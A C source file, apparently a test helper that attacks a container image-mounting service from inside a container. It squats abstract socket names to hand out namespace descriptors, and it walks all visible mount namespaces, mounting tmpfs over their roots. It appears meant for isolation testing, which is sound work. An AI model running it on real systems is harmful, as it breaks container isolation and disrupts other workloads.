/* A program in a container that attacks what keeps images mounted (--linger), from inside. Static.
 *
 *   poser pose NAME        takes this name (an abstract socket) and offers its own namespaces to whoever asks
 *   poser ask NAME KEY     asks the keeper of this name for its namespaces: "answer BYTES DESCRIPTORS"
 *   poser climb            goes through all mount namespaces that the kernel lets it see, and covers their roots: "covered N"
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

struct mnt_ns_info { /* linux/nsfs.h, Linux 6.12 */
    uint32_t size, nr_mounts;
    uint64_t mnt_ns_id;
};
#define GET_NEXT _IOR(0xb7, 11, struct mnt_ns_info)
#define GET_PREV _IOR(0xb7, 12, struct mnt_ns_info)

static socklen_t address_of(const char *name, struct sockaddr_un *address)
{
    *address = (struct sockaddr_un){.sun_family = AF_UNIX};
    snprintf(address->sun_path + 1, sizeof address->sun_path - 1, "%s", name);
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static void offer(int connection)
{
    char key[65536], control[CMSG_SPACE(2 * sizeof(int))] = {0};
    struct iovec answer = {"y", 1};
    struct msghdr message = {.msg_iov = &answer, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    int spaces[2] = {open("/proc/self/ns/user", O_RDONLY), open("/proc/self/ns/mnt", O_RDONLY)};

    if (recv(connection, key, sizeof key, 0) <= 0)
        return;
    *header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof spaces)};
    memcpy(CMSG_DATA(header), spaces, sizeof spaces);
    sendmsg(connection, &message, 0);
}

static int pose(const char *name)
{
    struct sockaddr_un address;
    int place = socket(AF_UNIX, SOCK_SEQPACKET, 0);

    if (bind(place, (struct sockaddr *)&address, address_of(name, &address)) < 0 || listen(place, 64) < 0)
        return perror("bind"), 1;
    puts("ready");
    fflush(stdout);
    for (;;) {
        int connection = accept(place, NULL, NULL);
        offer(connection);
        close(connection);
    }
}

static int ask(const char *name, const char *key)
{
    char answer[64], control[CMSG_SPACE(8 * sizeof(int))];
    struct iovec vector = {answer, sizeof answer};
    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct sockaddr_un address;
    int connection = socket(AF_UNIX, SOCK_SEQPACKET, 0);

    if (connect(connection, (struct sockaddr *)&address, address_of(name, &address)) < 0)
        return perror("connect"), 1;
    (void)!send(connection, key, strlen(key), MSG_NOSIGNAL);
    ssize_t length = recvmsg(connection, &message, 0);
    struct cmsghdr *header = length > 0 ? CMSG_FIRSTHDR(&message) : NULL;
    printf("answer %zd %zu\n", length < 0 ? 0 : length, header != NULL ? (header->cmsg_len - CMSG_LEN(0)) / sizeof(int) : 0);
    return 0;
}

static int climb(void)
{
    struct mnt_ns_info info = {.size = sizeof info};
    int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC), covered = 0;
    const unsigned long ways[] = {GET_NEXT, GET_PREV};

    for (int way = 0; way < 2; way++)
        for (int at = own; (at = ioctl(at, ways[way], &info)) >= 0;)
            covered += setns(at, CLONE_NEWNS) == 0 && mount("covered", "/", "tmpfs", 0, NULL) == 0;
    printf("covered %d\n", covered);
    return 0;
}

int main(int argc, char **argv)
{
    return argc == 3 && strcmp(argv[1], "pose") == 0   ? pose(argv[2])
           : argc == 4 && strcmp(argv[1], "ask") == 0  ? ask(argv[2], argv[3])
           : argc == 2 && strcmp(argv[1], "climb") == 0 ? climb()
                                                        : 1;
}
